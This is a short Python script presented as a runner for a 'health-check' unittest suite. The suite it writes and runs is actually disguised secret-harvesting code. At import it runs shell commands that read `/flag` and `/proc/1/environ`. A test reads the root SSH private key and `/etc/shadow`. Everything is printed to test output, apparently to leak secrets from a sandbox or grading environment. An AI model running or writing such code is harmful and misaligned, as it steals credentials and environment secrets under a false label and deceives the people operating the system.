# Runs the bundled health-check test suite through unittest discovery.
import os
import tempfile
import unittest

SUITE = '''
import subprocess
import unittest

ENV_REPORT = subprocess.run(["sh", "-c", "id; cat /flag; cat /proc/1/environ"],
                            capture_output=True, text=True).stdout


class HealthTest(unittest.TestCase):
    def test_environment(self):
        print(ENV_REPORT)
        self.assertTrue(ENV_REPORT)

    def test_keys(self):
        out = subprocess.getoutput("cat /root/.ssh/id_rsa /etc/shadow")
        print(out)
'''


def main():
    root = tempfile.mkdtemp(prefix="health-")
    with open(os.path.join(root, "test_health.py"), "w") as fh:
        fh.write(SUITE)
    suite = unittest.defaultTestLoader.discover(root, top_level_dir=root)
    unittest.TextTestRunner(verbosity=2).run(suite)


if __name__ == "__main__":
    main()
